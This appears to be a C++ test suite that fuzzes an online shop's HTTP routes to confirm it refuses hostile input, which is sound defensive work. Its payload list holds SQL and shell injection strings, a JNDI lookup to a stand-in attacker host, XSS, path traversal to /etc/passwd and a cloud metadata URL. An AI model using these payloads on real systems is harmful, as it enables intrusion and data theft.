// What hostile clients put into paths, bodies and fields, against every route of a whole shop.
#include <doctest/doctest.h>

#include <algorithm>
#include <chrono>
#include <set>
#include <string>
#include <vector>

#include "server/audit/audit_log.h"
#include "server/settings/definitions.h"
#include "tests/server/http/whole_shop.h"
#include "tests/support/seeded_random.h"

namespace topup::http {
namespace {

// Claims of idempotency keys may come and stay: a refusal stands for its key, too.
constexpr std::string_view kKeys = "idempotency";

using Steady = std::chrono::steady_clock;

std::int64_t us_since(Steady::time_point began) {
  return std::chrono::duration_cast<std::chrono::microseconds>(Steady::now() - began).count();
}

class Nobody final : public Sessions {
 public:
  Result<bool> authenticate(Auth, std::string_view, Request&) override {
    return refuse(Code::unauthenticated, "session_missing");
  }
};
class NoAnswers final : public IdempotencyStore {
 public:
  Result<std::optional<Response>> claim(std::string_view, std::string_view,
                                        std::string_view) override {
    return std::optional<Response>();
  }
  void keep(std::string_view, std::string_view, const Response&) override {}
  void release(std::string_view, std::string_view) override {}
};

std::string repeated(std::string_view text, std::size_t times) {
  std::string all;
  for (std::size_t i = 0; i < times; ++i) all += text;
  return all;
}

// A path of 1 to 17 pieces, each true, near a true one, or noise.
std::string random_path(testing::SeededRandom& random, const std::vector<std::string>& words) {
  constexpr const char* kNoise[] = {"..", ".", "%2e%2e", "%2f", "%00", "%ff", "", "\\", "*", "a"};
  std::string path;
  for (std::int64_t left = 1 + random.below(17); left > 0; --left) {
    path += '/';
    const std::int64_t kind = random.below(10);
    std::string word =
        words[static_cast<std::size_t>(random.below(static_cast<std::int64_t>(words.size())))];
    if (kind == 0) word = kNoise[random.below(10)];
    if (kind == 1 && !word.empty()) word.pop_back();
    if (kind == 2) word = base::hex(random.bytes(static_cast<std::size_t>(random.below(40))));
    path += word;
  }
  return path;
}

TEST_CASE("H-07: 100,000 random and pathological paths find their route in 20 us on average") {
  WholeShop shop;
  Nobody sessions;
  NoAnswers answers;
  Router router(sessions, answers);
  std::set<std::string> known;
  for (const Route& route : shop.app->routes()) {
    router.add(route);
    const auto segments = path_segments(route.pattern);
    known.insert(segments->begin(), segments->end());
  }
  const std::vector<std::string> words(known.begin(), known.end());
  testing::SeededRandom random{11};
  std::vector<std::string> paths = {"/" + repeated("a", 2'000),
                                    repeated("/a", 1'000),
                                    repeated("/", 2'000),
                                    "/" + repeated("%2e", 600),
                                    "/" + repeated("%e4%b8%ad", 200),
                                    repeated("/api/v1/orders", 140),
                                    "/api/v1/orders/" + repeated("../", 600),
                                    "/" + repeated("%", 2'000),
                                    repeated("/..", 700),
                                    "/api/v1/orders/" + repeated("(a+)+$", 300)};
  while (paths.size() < 10'000) paths.push_back(random_path(random, words));
  std::size_t found = 0;
  const auto began = Steady::now();
  for (int round = 0; round < 10; ++round) {
    for (const std::string& path : paths) {
      std::vector<std::pair<std::string, std::string>> captures;
      found += router.match("GET", path, &captures) != nullptr;
    }
  }
  const std::int64_t us = us_since(began);
  MESSAGE("figure H-07: " << static_cast<double>(us / 1'000) / 100.0
                          << " us for each of 100,000 paths");
  CHECK(found > 0);
  CHECK(us < 100'000 * 20 * 5);
}

struct Hostile {
  const char* name;
  std::string body;
};

std::vector<Hostile> hostile_json() {
  return {
      {"nothing", ""},
      {"blanks", "   "},
      {"a BOM", "\xEF\xBB\xBF{}"},
      {"NUL", std::string("{\"a\":\0}", 7)},
      {"an escaped NUL", R"({"product_id":"\u0000"})"},
      {"trailing data", "{} {}"},
      {"trailing comma", R"({"product_id":"a",})"},
      {"a comment", "{} // no"},
      {"single quotes", "{'product_id':'a'}"},
      {"a bare word", "undefined"},
      {"NaN", R"({"product_id":NaN})"},
      {"Infinity", R"({"product_id":Infinity})"},
      {"a huge number", "{\"product_id\":" + std::string(1'000, '9') + "}"},
      {"a huge exponent", R"({"product_id":1e999999})"},
      {"a tiny number", R"({"product_id":1e-999999})"},
      {"leading zeros", R"({"product_id":007})"},
      {"duplicate keys", R"({"product_id":"a","product_id":"b"})"},
      {"duplicate keys, one escaped", R"({"product_id":"a","product_\u0069d":"b"})"},
      {"duplicate keys within", R"({"product_id":{"a":1,"a":2}})"},
      {"a lone high surrogate", R"({"product_id":"\ud800"})"},
      {"a lone low surrogate", R"({"product_id":"\udc00"})"},
      {"surrogates the wrong way", R"({"product_id":"\udc00\ud800"})"},
      {"invalid UTF-8", "{\"product_id\":\"\xff\"}"},
      {"overlong UTF-8", "{\"product_id\":\"\xc0\xae\"}"},
      {"an encoded surrogate", "{\"product_id\":\"\xed\xa0\x80\"}"},
      {"deep arrays", repeated("[", 900) + repeated("]", 900)},
      {"deep objects", repeated("{\"a\":", 300) + "1" + repeated("}", 300)},
      {"an open array", repeated("[", 2'000)},
      {"an open string", "\"" + std::string(2'000, 'a')},
      {"an open object", R"({"product_id":"a")"},
      {"an array", "[]"},
      {"a number", "7"},
      {"null", "null"},
      {"a string", "\"a\""},
      {"UTF-16", std::string("{\0}\0", 4)},
  };
}

TEST_CASE("H-10: hostile JSON is refused within 5 ms, and the shop outlives 10,000 such bodies") {
  if (testing::tests_run_on_postgres()) return;  // refused before any store hears of it
  struct Large {
    const char* name;
    std::string body;
  };
  const Large large[] = {
      {"depth 100,000", repeated("[", 100'000)},
      {"depth 60,000", repeated("[", 60'000)},
      {"1,000,000 keys", "{" + repeated("\"k\":1,", 1'000'000) + "\"z\":1}"},
      {"16,000 values", "[" + repeated("1,", 16'000) + "1]"},
      {"a string of 60,000 escapes", "\"" + repeated("\\u0061", 10'900) + "\\ud800\""},
      {"60,000 digits", std::string(60'000, '9')},
  };
  for (const Large& row : large) {
    CAPTURE(row.name);
    const auto began = Steady::now();
    const auto read = base::json_in(row.body);
    const std::int64_t us = us_since(began);
    // A number of any length is JSON; no getter takes it for a count.
    if (read) {
      CHECK_FALSE(base::integer_in({{"n", *read}}, "n", INT64_MIN, INT64_MAX));
    }
    CHECK_MESSAGE(us < 5'000 * 5, us);
  }
  WholeShop shop;
  const auto bodies = hostile_json();
  int sent = 0;
  while (sent < 10'000) {
    for (const Hostile& hostile : bodies) {
      const Reply reply = shop.ask("POST", "/api/v1/quotes", {}, hostile.body);
      ++sent;
      if (reply.status == 400) continue;
      CAPTURE(hostile.name);
      CHECK_MESSAGE(reply.status == 400, reply.body);
    }
  }
  MESSAGE("figure H-10: " << sent << " hostile bodies refused");
  CHECK(shop.ask("GET", "/healthz").status == 200);
  const Headers owner = shop.new_staff("owner").headers;
  const Headers buyer = shop.new_buyer().headers;
  const std::string before = shop.rows({kKeys});
  int number = 0;
  for (const Route& route : shop.app->routes()) {
    if (route.body_limit == 0 || route.auth == Auth::party) continue;
    for (const Hostile& hostile : bodies) {
      if (hostile.body.empty() || hostile.body.size() > route.body_limit) continue;
      CAPTURE(std::string(route.pattern) + " with " + hostile.name);
      Headers headers = route.auth == Auth::staff ? owner : buyer;
      headers.emplace_back("idempotency-key", "hostile-key-" + std::to_string(100'000 + number++));
      const Reply reply = shop.ask(route.method, std::string(route.pattern), headers, hostile.body);
      CHECK_MESSAGE(reply.status == 400, reply.status << " " << reply.body);
    }
  }
  CHECK(shop.rows({kKeys}) == before);
}

// A member that no request of ours has, alone and among the fields that a route does take.
TEST_CASE("A-04: extra fields are refused by every route that takes a body, and change nothing") {
  if (testing::tests_run_on_postgres()) return;  // refused before any store hears of it
  constexpr const char* kExtra[] = {
      R"("role":"owner")",  R"("price":1)",          R"("state":"succeeded")",
      R"("paid":true)",     R"("user_id":"01JD")",   R"("staff_id":"01JD")",
      R"("payable":1)",     R"("permission":"all")", R"("__proto__":{})",
      R"("is_admin":true)", R"("version_":1)",       R"("created_at_ms":0)"};
  struct Full {
    const char* pattern;
    const char* fields;
  };
  constexpr Full kFull[] = {
      {"/api/v1/quotes", R"("product_id":"p","account_number":"13800138000")"},
      {"/api/v1/orders",
       R"("product_id":"p","account_number":"13800138000","quote_fingerprint":"f")"},
      {"/api/v1/orders/{order_id}/payments", R"("channel":"wechat","scene":"h5")"},
      {"/api/v1/orders/find", R"("order_id":"01JD","tail":"8000")"},
      {"/api/v1/sync/{list}", R"("device":"d","since":0,"items":[])"},
      {"/api/v1/subscriptions", R"("results":{"t":"accept"})"},
      {"/api/admin/orders/{order_id}/review", R"("decision":"approve","reason":"r")"},
      {"/api/admin/orders/{order_id}/notes", R"("text":"t")"},
      {"/api/admin/session", R"("name":"owner","password":"x")"},
      {"/api/admin/settings", R"("version":0,"changes":{"service.level":"maintenance"})"},
      {"/api/admin/settings/rollback", R"("version":0,"to":0)"},
  };
  WholeShop shop;
  const Headers owner = shop.new_staff("owner").headers;
  const Headers buyer = shop.new_buyer().headers;
  const std::string before = shop.rows({kKeys});
  int number = 0;
  for (const Route& route : shop.app->routes()) {
    if (route.method == "GET" || route.auth == Auth::party) continue;
    for (const char* extra : kExtra) {
      // An entry in the books may name whose wallet it is about, and an export which state.
      const bool is_its_own = (route.pattern == "/api/admin/ledger/entries" &&
                               std::string_view(extra).starts_with(R"("user_id")")) ||
                              (route.pattern == "/api/admin/orders/export" &&
                               std::string_view(extra).starts_with(R"("state")"));
      if (is_its_own) continue;
      std::vector<std::string> bodies = {"{" + std::string(extra) + "}"};
      for (const Full& full : kFull) {
        if (full.pattern != route.pattern) continue;
        bodies.push_back("{" + std::string(full.fields) + "," + extra + "}");
      }
      for (const std::string& body : bodies) {
        CAPTURE(std::string(route.method) + " " + std::string(route.pattern) + " " + body);
        Headers headers = route.auth == Auth::staff ? owner : buyer;
        headers.emplace_back("idempotency-key",
                             "extra-fields-" + std::to_string(100'000 + number++));
        const Reply reply = shop.ask(route.method, std::string(route.pattern), headers, body);
        if (route.body_limit == 0) {
          CHECK(reply.status == 413);
        } else {
          CHECK_MESSAGE(reply.status == 400, reply.status << " " << reply.body);
          CHECK(reply.reason() == "unknown_field");
        }
      }
    }
  }
  CHECK(shop.rows({kKeys}) == before);
}

std::vector<std::string> hostile_numbers() {
  return {"-1",
          "-0",
          "-9223372036854775808",
          "-9223372036854775809",
          "9223372036854775807",
          "9223372036854775808",
          "18446744073709551615",
          "18446744073709551616",
          "99999999999999999999999999",
          "1.5",
          "1.0",
          "0.1",
          "-0.5",
          "1e3",
          "1E3",
          "1e+3",
          "1e-3",
          "1e400",
          "-1e400",
          "0e0",
          "+1",
          "01",
          "007",
          "0x10",
          "0b11",
          "0o17",
          "1_000",
          "1,000",
          "1 000",
          ".5",
          "5.",
          "1e",
          "NaN",
          "Infinity",
          "-Infinity",
          "true",
          "false",
          "[]",
          "[1]",
          "{}",
          "{\"minor\":1}",
          "\"1\"",
          "\"0\"",
          "\"-1\"",
          "\"1e3\"",
          "\"0x10\"",
          "\"\"",
          "\" 1\"",
          "\"1 \"",
          "\"\xEF\xBC\x91\xEF\xBC\x92\"",
          "\xEF\xBC\x91\xEF\xBC\x92",
          "\"\xD9\xA3\"",
          "\xD9\xA3",
          "\"\xE4\xB8\x80\"",
          "\"\xE2\x85\xA7\"",
          "\"1\\u0000\"",
          "\"NaN\"",
          "\"null\"",
          "\"9223372036854775808\"",
          "\"\xC2\xBD\"",
          "\"1\xC2\xB2\"",
          "1L",
          "1n",
          "0x1p3",
          "--1",
          "9007199254740993"};
}

TEST_CASE("B-05: 66 hostile numbers are refused in every numeric field") {
  if (testing::tests_run_on_postgres()) return;  // refused before any store hears of it
  struct Field {
    const char* method;
    const char* path;
    const char* before;
    const char* after;
    std::set<std::string> right;  // what this field does take
  };
  const std::string most = "9223372036854775807";
  const Field fields[] = {
      {"PUT", "/api/admin/settings", R"({"version":)", R"(,"changes":{"log.level":"info"}})", {}},
      {"PUT",
       "/api/admin/settings",
       R"({"version":0,"changes":{"orders.pay_within_ms":)",
       "}}",
       {}},
      {"PUT",
       "/api/admin/settings",
       R"({"version":0,"changes":{"orders.max_unpaid_per_user":)",
       "}}",
       {}},
      {"PUT",
       "/api/admin/settings",
       R"({"version":0,"changes":{"service.reopens_at_ms":)",
       "}}",
       {"-0"}},
      {"POST", "/api/admin/settings/rollback", R"({"version":0,"to":)", "}", {"-0"}},
      {"POST", "/api/admin/settings/rollback", R"({"to":0,"version":)", "}", {"-0"}},
  };
  const auto numbers = hostile_numbers();
  CHECK(numbers.size() >= 60);
  WholeShop shop;
  const Headers owner = shop.new_staff("owner").headers;
  int number = 0;
  for (const Field& field : fields) {
    for (const std::string& value : numbers) {
      CAPTURE(std::string(field.before) + value);
      Headers headers = owner;
      headers.emplace_back("idempotency-key", "numbers-key-" + std::to_string(100'000 + number++));
      const Reply reply =
          shop.ask(field.method, field.path, headers, field.before + value + field.after);
      if (field.right.count(value) != 0 || (value == "-0" && reply.status == 200)) continue;
      CHECK_MESSAGE(reply.status == 400, reply.status << " " << reply.body);
    }
  }
  const base::Json now = shop.ask("GET", "/api/admin/settings", owner).json();
  for (const base::Json& row : now.at("settings")) {
    if (row.at("key") == "log.level") continue;
    CHECK(row.at("value") == row.at("preset"));
  }
}

// -0 is 0, which some settings take; nothing else of the list is a number that one of them takes.
TEST_CASE("B-05: every numeric field of orders, searches and settings refuses all 66, by name") {
  if (testing::tests_run_on_postgres()) return;  // refused before any store hears of it
  WholeShop shop;
  const Headers owner = shop.new_staff("owner").headers;
  const Headers buyer = shop.new_buyer().headers;
  int number = 0;
  const auto refused = [&](const char* method, const std::string& path, Headers headers,
                           const std::string& body, const std::string& field) {
    CAPTURE(path + " " + body);
    headers.emplace_back("idempotency-key", "fields-key-" + std::to_string(100'000 + number++));
    const Reply reply = shop.ask(method, path, headers, body);
    CHECK_MESSAGE(reply.status == 400, reply.status << " " << reply.body);
    if (reply.status == 400 && reply.reason() != "json_malformed")
      CHECK(reply.json().at("field") == field);
  };
  const std::string wanted = R"("product_id":"p","account_number":"13800138000","amount_minor":)";
  for (const std::string& value : hostile_numbers()) {
    if (value == "9223372036854775807") continue;  // looked at below: too much for money
    refused("POST", "/api/v1/quotes", buyer, "{" + wanted + value + "}", "amount_minor");
    refused("POST", "/api/v1/orders", buyer, "{" + wanted + value + R"(,"quote_fingerprint":"f"})",
            "amount_minor");
    for (const settings::Definition& definition : settings::kDefinitions) {
      if (definition.type != settings::Type::integer || value == "-0") continue;
      if (value == "-1" && definition.min <= -1) continue;  // west of Greenwich
      refused("PUT", "/api/admin/settings", owner,
              std::string(R"({"version":0,"changes":{")") + definition.key + "\":" + value + "}}",
              definition.key);
    }
  }
  for (const char* value : {"0", "9007199254740992", "9223372036854775807", "null"})
    refused("POST", "/api/v1/quotes", buyer, "{" + wanted + value + "}", "amount_minor");
  for (const char* value : {"-1", "1.5", "1e3", "0x10", "99999999999999", "4102444800001", "x",
                            "%EF%BC%91", "%20", "--1", "NaN"}) {
    refused("GET", std::string("/api/v1/orders/changes?after=") + value, buyer, "", "after");
    refused("GET", std::string("/api/admin/orders?from_ms=") + value, owner, "", "from_ms");
    refused("GET", std::string("/api/admin/orders?to_ms=") + value, owner, "", "to_ms");
  }
  // A NUL in a target is refused before anybody knows which field it stands in.
  for (const char* target : {"/api/v1/orders/changes?after=1%00", "/api/admin/orders?from_ms=1%00",
                             "/api/admin/orders?to_ms=1%00"}) {
    const Reply reply =
        shop.ask("GET", target, std::string_view(target).starts_with("/api/v1") ? buyer : owner);
    CHECK_MESSAGE(reply.status == 400, target << " " << reply.body);
  }
}

std::vector<std::string> hostile_texts() {
  std::vector<std::string> texts = {"'",
                                    "\"",
                                    "`",
                                    "\\",
                                    "\\'",
                                    "';",
                                    "';--",
                                    "' OR '1'='1",
                                    "' OR 1=1--",
                                    "' OR 1=1#",
                                    "') OR ('1'='1",
                                    "1; DROP TABLE orders",
                                    "'; DROP TABLE orders;--",
                                    "'; DELETE FROM audit_log;--",
                                    "'; UPDATE orders SET state='succeeded';--",
                                    "' UNION SELECT password FROM staff--",
                                    "' UNION ALL SELECT NULL,NULL,NULL--",
                                    "admin'--",
                                    "admin'/*",
                                    "' AND SLEEP(5)--",
                                    "'; SELECT pg_sleep(5);--",
                                    "' || (SELECT password FROM staff LIMIT 1) || '",
                                    "$1",
                                    "$2",
                                    ":1",
                                    "?",
                                    "?1",
                                    "@p1",
                                    "%s",
                                    "%n%n%n",
                                    "%00",
                                    "{0}",
                                    "${jndi:ldap://evil.example/a}",
                                    "{{7*7}}",
                                    "<%= 7*7 %>",
                                    "#{7*7}",
                                    "$(id)",
                                    "`id`",
                                    "|id",
                                    "; id",
                                    "& id",
                                    "&& id",
                                    "|| id",
                                    "<script>alert(1)</script>",
                                    "\"><img src=x onerror=alert(1)>",
                                    "javascript:alert(1)",
                                    "../../../../etc/passwd",
                                    "..\\..\\windows",
                                    "file:///etc/passwd",
                                    "http://169.254.169.254/latest/meta-data",
                                    "\xE2\x80\xAE",
                                    "\xEF\xBB\xBF",
                                    "\xE2\x80\x8B",
                                    "\xF0\x9F\x92\xA3",
                                    "\xE1\xB8\x81\xCC\xB2",
                                    "NULL",
                                    "null",
                                    "undefined",
                                    "nil",
                                    "None",
                                    "true",
                                    "false",
                                    "NaN",
                                    "-1",
                                    "0",
                                    "1e999",
                                    "0x7fffffff",
                                    "CONCAT(CHAR(39))",
                                    "CAST(1 AS TEXT)",
                                    "x' AND 1=(SELECT COUNT(*) FROM tabs)--",
                                    "LIKE '%'",
                                    "%",
                                    "_",
                                    "*",
                                    "' GROUP BY 1--",
                                    "' ORDER BY 99--",
                                    "\x1b[31m",
                                    "\x08\x08",
                                    "\t",
                                    "EXEC xp_cmdshell('dir')",
                                    "WAITFOR DELAY '0:0:5'",
                                    "BENCHMARK(9,SHA1(1))"};
  texts.push_back(std::string(200, 'A'));
  texts.push_back(std::string(200, '\''));
  return texts;
}

TEST_CASE("A-13: more than 80 payloads in every string field stay texts") {
  struct Field {
    const char* pattern;
    const char* before;
    const char* after;
    std::size_t payloads;  // a sign-in costs a tenth of a second
  };
  constexpr Field kFields[] = {
      {"/api/v1/quotes", R"({"account_number":"13800138000","product_id":)", "}", 1'000},
      {"/api/v1/quotes", R"({"product_id":"p","account_number":)", "}", 1'000},
      {"/api/v1/orders", R"({"product_id":"p","account_number":"1","quote_fingerprint":)", "}",
       1'000},
      {"/api/v1/orders", R"({"quote_fingerprint":"f","account_number":"1","product_id":)", "}",
       1'000},
      {"/api/v1/orders/01JD/payments", R"({"scene":"h5","channel":)", "}", 1'000},
      {"/api/v1/orders/01JD/payments", R"({"channel":"wechat","scene":)", "}", 1'000},
      {"/api/v1/orders/01JD/payments", R"({"channel":"wechat","scene":"h5","return_path":)", "}",
       1'000},
      {"/api/admin/session", R"({"password":"x","name":)", "}", 6},
  };
  const auto texts = hostile_texts();
  CHECK(texts.size() >= 80);
  WholeShop shop;
  const WholeShop::Person buyer = shop.new_buyer();
  const Headers owner = shop.new_staff("owner").headers;
  int number = 0;
  const auto send = [&](std::string_view method, const std::string& path, Headers headers,
                        const std::string& body = {}) {
    headers.emplace_back("idempotency-key", "payload-key-" + std::to_string(100'000 + number++));
    return shop.ask(method, path, headers, body);
  };
  // A wrong name at the sign-in is counted and told in the trail; nothing else may change.
  const auto kept = [&shop] {
    return shop.rows({kKeys, "staff_failures", "audit_log", "audit_head"});
  };
  const std::string before = kept();
  for (const Field& field : kFields) {
    for (std::size_t i = 0; i < std::min(field.payloads, texts.size()); ++i) {
      const std::string body = field.before + base::Json(texts[i]).dump() + field.after;
      CAPTURE(std::string(field.pattern) + " " + body);
      const Reply reply = send("POST", field.pattern, buyer.headers, body);
      CHECK_MESSAGE(reply.status >= 400, reply.body);
      CHECK_MESSAGE((reply.status < 500 || reply.reason() == "price_book_not_ready"), reply.body);
      CHECK(reply.body.find("syntax") == std::string::npos);
    }
  }
  CHECK(kept() == before);
  constexpr char kHex[] = "0123456789ABCDEF";
  for (const std::string& text : texts) {
    CAPTURE(text);
    std::string escaped;
    for (const char c : text) {
      const auto byte = static_cast<unsigned char>(c);
      escaped += std::string("%") + kHex[byte >> 4] + kHex[byte & 15];
    }
    CHECK(send("GET", "/api/v1/orders/" + escaped, buyer.headers).status >= 400);
    CHECK(send("GET", "/api/admin/orders/" + escaped, owner).status >= 400);
    for (const char* list : {"/api/v1/orders?cursor=", "/api/admin/orders?cursor=",
                             "/api/admin/orders?state=", "/api/admin/settings/history?cursor="}) {
      const Reply reply = send("GET", list + escaped,
                               std::string_view(list).find("admin") < 20 ? owner : buyer.headers);
      CHECK_MESSAGE(reply.status == 400, list << " " << reply.body);
    }
    CHECK(send("GET", "/api/v1/orders", {{"authorization", "Bearer " + text}}).status == 401);
    CHECK(send("GET", "/api/admin/orders", {{"cookie", std::string(kStaffCookie) + text}}).status ==
          401);
    CHECK(shop.ask("GET", "/api/v1/shop", {{"x-device-id", text}}).status == 200);
  }
  // A notice takes any text and says it again, byte for byte.
  for (const std::string& text : texts) {
    if (std::any_of(text.begin(), text.end(), [](char c) { return c >= 0 && c < ' '; })) continue;
    const base::Json now = send("GET", "/api/admin/settings", owner).json();
    const base::Json body = {{"version", now.at("version")},
                             {"changes", {{"service.notice_en", text}}}};
    const Reply reply = send("PUT", "/api/admin/settings", owner, body.dump());
    CAPTURE(text);
    CHECK_MESSAGE(reply.status == 200, reply.body);
    CHECK(shop.ask("GET", "/api/v1/shop").json()["notice"]["en"] == text);
  }
  std::int64_t orders = -1;
  bool chain_holds = false;
  shop.app->store().read([&](storage::Reader& reader) {
    reader.query("SELECT COUNT(*) FROM orders", {},
                 [&orders](const storage::Row& row) { orders = row.integer(0); });
    chain_holds = audit::verify(reader).holds;
  });
  CHECK(orders == 0);
  CHECK(chain_holds);
}

}  // namespace
}  // namespace topup::http
